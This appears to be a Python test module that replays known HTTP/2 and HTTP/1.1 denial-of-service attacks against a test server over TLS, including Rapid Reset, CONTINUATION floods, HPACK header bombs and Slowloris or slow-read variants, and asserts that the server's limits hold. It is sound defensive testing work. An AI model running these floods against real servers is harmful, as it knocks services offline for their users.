"""Attacks on HTTP/2 and HTTP/1.1, as bytes on a TLS connection."""

from __future__ import annotations

import resource
import select
import ssl
import struct
from collections.abc import Callable, Iterator
from contextlib import suppress
from urllib.parse import urlsplit

from harness.clients.tls import tls_connection, vanish

from .attack import MIB, Ground, attack

HTTP2, HTTP1 = "HTTP/2", "HTTP/1.1"

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    0,
    1,
    2,
    3,
    4,
    6,
    7,
    8,
    9,
)
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
INITIAL_WINDOW_SIZE = 4
CANCEL, ENHANCE_YOUR_CALM = 8, 11


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return (
        struct.pack(">I", len(payload))[1:]
        + bytes([kind, flags])
        + struct.pack(">I", stream)
        + payload
    )


def integer(value: int, bits: int, first: int) -> bytes:
    """Encodes an integer (RFC 7541 section 5.1)."""
    full = (1 << bits) - 1
    if value < full:
        return bytes([first | value])
    out, value = bytearray([first | full]), value - full
    while value >= 0x80:
        out.append(value & 0x7F | 0x80)
        value >>= 7
    return bytes([*out, value])


def text(value: bytes) -> bytes:
    return integer(len(value), 7, 0) + value


def readable(connection: ssl.SSLSocket, seconds: float) -> bool:
    """Waits with poll(2), which has no limit on descriptor numbers."""
    poll = select.poll()
    poll.register(connection, select.POLLIN)
    return bool(poll.poll(1000 * seconds))


class RawH2:
    """A connection for frames that no library would send. It responds to nothing by itself."""

    def __init__(self, ground: Ground, settings: dict[int, int] | None = None):
        self.ground = ground
        self.socket = ground.keep(tls_connection(ground.origin, ground.ca, "h2"))
        self.authority = urlsplit(ground.origin).netloc.encode()
        self.next_stream = 1
        self.ended = False
        self.pongs = 0
        self.resets: dict[int, int] = {}
        self.heads: set[int] = set()
        self.go_away: int | None = None
        self._unread = bytearray()
        pairs = b"".join(struct.pack(">HI", key, value) for key, value in (settings or {}).items())
        self.send(PREFACE + frame(SETTINGS, 0, 0, pairs) + frame(SETTINGS, ACK, 0))

    def send(self, data: bytes) -> bool:
        """Returns false if the server has closed the connection."""
        if self.ended:
            return False
        # Reads in between, so that neither side blocks the other.
        self.socket.settimeout(30)
        self.ground.sent(len(data))
        try:
            for at in range(0, len(data), 16_384):
                self.socket.sendall(data[at : at + 16_384])
                self.receive(0)
        except (ConnectionError, ssl.SSLError):
            self.receive(0)
            self.ended = True
        return not self.ended

    def receive(self, seconds: float) -> bool:
        """Reads received data; returns false if there was none this time."""
        if self.ended or not (self.socket.pending() or readable(self.socket, seconds)):
            return False
        try:
            data = self.socket.recv(65_536)
        except (ConnectionError, ssl.SSLError):
            data = b""
        self.ended = not data
        self._unread += data
        while len(self._unread) >= 9 and len(self._unread) >= 9 + (
            size := int.from_bytes(self._unread[:3], "big")
        ):
            frame = bytes(self._unread[: 9 + size])
            del self._unread[: 9 + size]
            self._take(frame[3], frame[4], int.from_bytes(frame[5:9], "big"), frame[9:])
        return True

    def _take(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
        if kind == PING and flags & ACK:
            self.pongs += 1
        elif kind == RST_STREAM:
            self.resets[stream] = int.from_bytes(payload, "big")
        elif kind == HEADERS:
            self.heads.add(stream)
        elif kind == GOAWAY:
            self.go_away = int.from_bytes(payload[4:8], "big")

    def until(self, what: str, condition: Callable[[], object]) -> None:
        def look() -> bool:
            while self.receive(0.02):
                pass
            return bool(condition())

        self.ground.eventually(what, look)

    def settle(self) -> bool:
        """Waits until the server has read all data sent; returns false if it has closed the
        connection.
        """
        before = self.pongs
        self.send(frame(PING, 0, 0, b"settled?"))
        self.until("an answer to a PING", lambda: self.ended or self.pongs > before)
        return not self.ended

    def stream(self) -> int:
        stream, self.next_stream = self.next_stream, self.next_stream + 2
        return stream

    def block(self, path: bytes = b"/small.txt", method: bytes = b"GET") -> bytes:
        """Encodes the pseudo-headers of a request in order (RFC 7541), with static indexes and
        literals.
        """
        return (
            b"\x02" + text(method) + b"\x87" + b"\x04" + text(path) + b"\x01" + text(self.authority)
        )

    def request(self, block: bytes | None = None, *, end: bool = True) -> tuple[int, bytes]:
        stream = self.stream()
        return stream, frame(
            HEADERS, END_HEADERS | (END_STREAM if end else 0), stream, block or self.block()
        )


def flood(ground: Ground, pieces: Iterator[bytes]) -> RawH2:
    """Sends pieces until the server closes the connection, which it must do."""
    client = RawH2(ground)
    for piece in pieces:
        if not client.send(piece):
            break
    client.until("the end of the connection", lambda: client.ended)
    return client


@attack(
    family=HTTP2,
    source="CVE-2023-44487 (Rapid Reset)",
    what="20,000 requests on 10 connections, each cancelled in the next frame",
    limit="`resets_per_second`, `resets_before_accept` (ENHANCE_YOUR_CALM)",
    counters=("reset_floods", "reset_floods_before_accept"),
    memory_mib=16,
    cpu_seconds=3,
)
def rapid_reset_over_http2(ground: Ground) -> None:
    for _ in range(10):
        client = RawH2(ground)
        for _ in range(100):
            burst = b""
            for _ in range(20):
                stream, head = client.request()
                burst += head + frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
            if not client.send(burst):
                break
        client.until("the end of the connection", lambda client=client: client.ended)
        assert client.go_away in (ENHANCE_YOUR_CALM, None), client.go_away


@attack(
    family=HTTP2,
    source="CVE-2025-8671, VU#767506 (MadeYouReset)",
    what="up to 20,000 requests on a connection, each made invalid after its head, so that the server resets it: a "
    "window that overflows, or content beyond its length",
    limit="`stream_errors` (ENHANCE_YOUR_CALM)",
    counters=("stream_error_floods",),
    memory_mib=16,
    cpu_seconds=3,
)
def made_you_reset_over_http2(ground: Ground) -> None:
    client = RawH2(ground)
    overflow = struct.pack(">I", (1 << 31) - 1)
    for _ in range(20_000 // 20):
        burst = b""
        for number in range(20):
            if number % 2:
                # Field 28 of the static table is content-length.
                stream, head = client.request(
                    client.block(b"/big.bin", b"POST") + b"\x0f\x0d" + text(b"1"), end=False
                )
                burst += head + frame(DATA, END_STREAM, stream, b"four")
            else:
                stream, head = client.request(client.block(b"/big.bin"))
                burst += head + frame(WINDOW_UPDATE, 0, stream, overflow)
        if not client.send(burst):
            break
    client.until("the end of the connection", lambda: client.ended)
    assert client.go_away in (ENHANCE_YOUR_CALM, None), client.go_away


@attack(
    family=HTTP2,
    source="VU#421644 (CONTINUATION flood: CVE-2024-27316 and others)",
    what="heads that never end: 10 connections, each with up to 64 MiB of CONTINUATION frames, full, tiny and empty",
    limit="`continuation_frames`, `field_section_bytes`",
    counters=("continuation_floods",),
    memory_mib=16,
    cpu_seconds=3,
)
def continuation_flood(ground: Ground) -> None:
    full = b"\x00\x01x" + text(b"y" * 16_000)
    for number in range(10):
        piece = frame(CONTINUATION, 0, 1, [full, b"\x00\x01x\x01y", b""][number % 3])
        client = RawH2(ground)
        client.send(frame(HEADERS, 0, 1, client.block()))
        while client.ground.bytes_sent < (number + 1) * (64 << 20) and client.send(piece):
            pass
        client.until("the end of the connection", lambda client=client: client.ended)


@attack(
    family=HTTP2,
    source="calif.io, HTTP/2 Bomb, June 2026",
    what="heads on 2 connections, up to 250 each, that refer to a field of 3000 bytes 10,000 times with a byte each, "
    "with a window of 0",
    limit="`field_section_bytes`: counted while decoding; far beyond it ENHANCE_YOUR_CALM",
    counters=("heads_too_large", "heads_too_many_lines"),
    memory_mib=16,
    cpu_seconds=3,
)
def http2_bomb(ground: Ground) -> None:
    for _ in range(2):
        client = RawH2(ground, {INITIAL_WINDOW_SIZE: 0})
        _, first = client.request(client.block() + b"\x40" + text(b"x") + text(b"v" * 3000))
        client.send(first)
        for _ in range(250):
            # 62 is the newest entry of the dynamic table.
            stream, head = client.request(client.block() + b"\xbe" * 10_000)
            if not client.send(head):
                break
            client.until(
                "an answer or a reset",
                lambda s=stream, c=client: c.ended or s in c.heads or s in c.resets,
            )


@attack(
    family=HTTP2,
    source="calif.io, HTTP/2 Bomb, June 2026",
    what="1000 requests on 4 connections below every limit of one head, each with 20 references to a field "
    "of 3000 bytes, stalled by a window of 0",
    limit="`concurrent_streams`, `open_requests`; a file is only read when there is capacity for it",
    flags=("--limit", "response_timeout=3s"),
    memory_mib=24,
    cpu_seconds=5,
)
def indexed_references_behind_a_zero_window_over_http2(ground: Ground) -> None:
    for _ in range(4):
        client = RawH2(ground, {INITIAL_WINDOW_SIZE: 0})
        _, first = client.request(client.block() + b"\x40" + text(b"x") + text(b"v" * 3000))
        client.send(first)
        for _ in range(249):
            _, head = client.request(client.block(b"/big.bin") + b"\xbe" * 20)
            client.send(head)
        client.until(
            "the heads of all answers",
            lambda c=client: c.ended or len(c.heads | c.resets.keys()) >= 240,
        )
        assert len(client.heads) >= 240, (len(client.heads), client.resets)


EMPTY = {
    "settings": lambda _: frame(SETTINGS, 0, 0),
    "ping": lambda _: frame(PING, 0, 0, bytes(8)),
    "priority": lambda number: frame(PRIORITY, 0, 2 * number + 1, struct.pack(">IB", 0, 1)),
    "unknown": lambda _: frame(0xBB, 0, 0),
}

SOURCES = {
    "settings": "CVE-2019-9515",
    "ping": "CVE-2019-9512",
    "priority": "CVE-2019-9513",
    "unknown": "CVE-2019-9518",
}

for kind, make in EMPTY.items():

    def empty_frame_flood(ground: Ground, make=make) -> None:
        pieces = (b"".join(make(number) for _ in range(500)) for number in range(1000))
        flood(ground, pieces)

    empty_frame_flood.__name__ = f"{kind}_flood_over_http2"
    attack(
        family=HTTP2,
        source=SOURCES[kind],
        what=f"up to 500,000 {kind.upper() if kind != 'unknown' else 'unknown'} frames on a connection",
        limit="`control_frames_per_second`",
        counters=("control_frame_floods",),
        memory_mib=16,
        cpu_seconds=3,
    )(empty_frame_flood)


@attack(
    family=HTTP2,
    source="CVE-2019-9518",
    what="up to 500,000 DATA frames without content on an upload",
    limit="100 empty DATA frames of a connection (library h2), `control_frames_per_second`",
    handler=True,
    memory_mib=16,
    cpu_seconds=3,
)
def empty_data_flood_over_http2(ground: Ground) -> None:
    client = RawH2(ground)
    stream, head = client.request(client.block(b"/upload", b"POST"), end=False)
    client.send(head)
    for _ in range(1000):
        if not client.send(frame(DATA, 0, stream) * 500):
            break
    client.until("the end of the connection", lambda: client.ended)


@attack(
    family=HTTP2,
    source="CVE-2019-9517 (internal data buffering), Slow read (2012)",
    what="500 downloads of 10 MiB on 2 connections, with windows of 2 GiB and a client that does not read from "
    "its socket",
    limit="`send_window_bytes`, `response_timeout`",
    flags=("--limit", "response_timeout=1s"),
    counters=("response_timeouts", "responses_too_slow"),
    memory_mib=24,
    cpu_seconds=6,
)
def slow_reader_over_http2(ground: Ground) -> None:
    clients = [RawH2(ground, {INITIAL_WINDOW_SIZE: (1 << 31) - 1}) for _ in range(2)]
    for client in clients:
        client.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", (1 << 31) - 1 - 65_535)))
        heads = b"".join(client.request(client.block(b"/big.bin"))[1] for _ in range(250))
        client.socket.sendall(heads)
        ground.sent(len(heads))
    wait_for_time_outs(ground)


@attack(
    family=HTTP2,
    source="Slow read (2012), with as many connections as an address may have",
    what="a download of 10 MiB on each of 2,000 connections, with windows of 2 GiB and a client that does not "
    "read from its sockets; the kernel's memory is included, and nearly all is released when they have disconnected",
    limit="`connections_per_client`, `send_budget_bytes`, `send_window_bytes`",
    memory_mib=1024,
    cpu_seconds=60,
)
def unread_downloads_on_many_connections_over_http2(ground: Ground) -> None:
    unread_downloads(ground, connections=2000, streams=1)


@attack(
    family=HTTP2,
    source="Slow read (2012), CVE-2019-9517 (internal data buffering)",
    what="250 downloads of 10 MiB on each of 39 connections, with windows of 2 GiB and a client that does not "
    "read from its sockets; the kernel's memory is included, and nearly all is released when they have disconnected",
    limit="`open_requests`, `send_budget_bytes`, `send_window_bytes`",
    memory_mib=96,
    cpu_seconds=20,
)
def unread_downloads_on_many_streams_over_http2(ground: Ground) -> None:
    unread_downloads(ground, connections=39, streams=250)


def unread_downloads(ground: Ground, *, connections: int, streams: int) -> None:
    server, before = ground.server, ground.server.resident_bytes()
    open_files(connections + 1000)
    clients = []
    for _ in range(connections):
        client = RawH2(ground, {INITIAL_WINDOW_SIZE: (1 << 31) - 1})
        client.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", (1 << 31) - 1 - 65_535)))
        heads = b"".join(client.request(client.block(b"/big.bin"))[1] for _ in range(streams))
        client.socket.sendall(heads)
        ground.sent(len(heads))
        clients.append(client)
        if len(clients) % 100 == 0:
            ground.look_into_the_kernel()
    ground.look_into_the_kernel()
    held = server.resident_bytes() - before
    for client in clients:
        vanish(client.socket)
    ground.eventually(
        "memory is released",
        lambda: server.resident_bytes() - before < max(16 * MIB, held // 8),
    )


def open_files(count: int) -> None:
    """Raises this process's limit on descriptors."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < count:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(count, hard), hard))


def wait_for_time_outs(ground: Ground) -> None:
    """Waits until the server has closed a connection of the attackers because they do not read."""
    before = ground.server.open_descriptors()
    ground.eventually(
        "the server to close a connection", lambda: ground.server.open_descriptors() < before
    )


@attack(
    family=HTTP2,
    source="Slow read (2012)",
    what="250 downloads of 10 MiB with windows of one byte",
    limit="`response_timeout`: the streams are reset",
    flags=("--limit", "response_timeout=1s"),
    counters=("response_timeouts", "responses_too_slow"),
    memory_mib=16,
    cpu_seconds=4,
)
def shut_window_over_http2(ground: Ground) -> None:
    client = RawH2(ground, {INITIAL_WINDOW_SIZE: 1})
    for _ in range(250):
        client.send(client.request(client.block(b"/big.bin"))[1])
    client.until("the reset of each stream", lambda: client.ended or len(client.resets) >= 250)


@attack(
    family=HTTP2,
    source="Slowloris (2009), over HTTP/2",
    what="100 connections, each with a head whose last CONTINUATION never arrives",
    limit="`head_timeout`",
    flags=("--limit", "head_timeout=1s"),
    counters=("head_timeouts",),
    memory_mib=16,
    cpu_seconds=5,
)
def slow_header_over_http2(ground: Ground) -> None:
    clients = [RawH2(ground) for _ in range(100)]
    for client in clients:
        client.send(frame(HEADERS, END_STREAM, 1, client.block()))
    for client in clients:
        client.until("the end of the connection", lambda client=client: client.ended)


@attack(
    family=HTTP2,
    source="Slow POST (R.U.D.Y.), over HTTP/2",
    what="200 uploads on a connection that stop after a byte",
    limit="`body_timeout`: answered 408",
    flags=("--limit", "body_timeout=1s"),
    handler=True,
    memory_mib=16,
    cpu_seconds=4,
)
def slow_body_over_http2(ground: Ground) -> None:
    client = RawH2(ground)
    for _ in range(200):
        stream, head = client.request(client.block(b"/upload", b"POST"), end=False)
        client.send(head + frame(DATA, 0, stream, b"x"))
    client.until("an answer to each", lambda: client.ended or len(client.heads) == 200)
    assert not client.ended


def http1_connections(ground: Ground, count: int, sent: bytes) -> list[ssl.SSLSocket]:
    connections = []
    for _ in range(count):
        connection = ground.keep(tls_connection(ground.origin, ground.ca, "http/1.1"))
        connection.sendall(sent)
        ground.sent(len(sent))
        connections.append(connection)
    return connections


def read_to_end(connection: ssl.SSLSocket) -> bytes:
    connection.settimeout(30)
    received = b""
    with suppress(ConnectionResetError, ssl.SSLEOFError):
        while piece := connection.recv(65_536):
            received += piece
    return received


@attack(
    family=HTTP1,
    source="Slowloris (2009)",
    what="300 connections, each with a head that never ends",
    limit="`head_timeout`",
    flags=("--limit", "head_timeout=1s"),
    counters=("head_timeouts",),
    memory_mib=24,
    cpu_seconds=6,
)
def slow_header_over_http1(ground: Ground) -> None:
    connections = http1_connections(ground, 300, b"GET / HTTP/1.1\r\nhost: localhost\r\nx-slow: ")
    for connection in connections:
        assert b" 200 " not in read_to_end(connection)


@attack(
    family=HTTP1,
    source="Slow POST (R.U.D.Y., 2010)",
    what="200 connections, each with an upload that stops after a byte",
    limit="`body_timeout`: answered 408",
    flags=("--limit", "body_timeout=1s"),
    handler=True,
    memory_mib=24,
    cpu_seconds=6,
)
def slow_body_over_http1(ground: Ground) -> None:
    head = b"POST /upload HTTP/1.1\r\nhost: localhost\r\ncontent-length: 1000000\r\n\r\nx"
    for connection in http1_connections(ground, 200, head):
        assert b"HTTP/1.1 408 " in read_to_end(connection)


@attack(
    family=HTTP1,
    source="Slow read (2012)",
    what="100 connections that request 10 MiB each, ten times, and read nothing",
    limit="`response_timeout`; a file is read in pieces as the client reads",
    flags=("--limit", "response_timeout=1s"),
    counters=("response_timeouts", "responses_too_slow"),
    memory_mib=64,
    cpu_seconds=8,
)
def slow_reader_over_http1(ground: Ground) -> None:
    request = b"GET /big.bin HTTP/1.1\r\nhost: localhost\r\n\r\n"
    connections = http1_connections(ground, 100, request * 10)
    wait_for_time_outs(ground)
    for connection in connections:
        connection.close()


@attack(
    family=HTTP1,
    source="chunked extensions (CVE-2023-39326, Go), header bombs",
    what="30 uploads with chunk extensions, trailers and heads of 4 MiB",
    limit="`field_section_bytes`, and the library hyper's bound on extensions and trailers",
    handler=True,
    memory_mib=16,
    cpu_seconds=3,
)
def oversized_heads_chunks_and_trailers_over_http1(ground: Ground) -> None:
    chunked = b"POST /upload HTTP/1.1\r\nhost: localhost\r\ntransfer-encoding: chunked\r\n\r\n"
    big = b"x" * (4 << 20)
    bombs = [
        b"GET / HTTP/1.1\r\nhost: localhost\r\nx: " + big + b"\r\n\r\n",
        chunked + b"1;" + big + b"\r\nx\r\n0\r\n\r\n",
        chunked + b"0\r\nx: " + big + b"\r\n\r\n",
        chunked + b"0\r\n" + b"x: y\r\n" * 500_000 + b"\r\n",
        b"GET /" + big + b" HTTP/1.1\r\nhost: localhost\r\n\r\n",
    ]
    for number in range(30):
        connection = ground.keep(tls_connection(ground.origin, ground.ca, "http/1.1"))
        bomb = bombs[number % len(bombs)]
        ground.sent(len(bomb))
        with suppress(ConnectionError, ssl.SSLError):
            connection.sendall(bomb)
        assert b"HTTP/1.1 200 " not in read_to_end(connection)
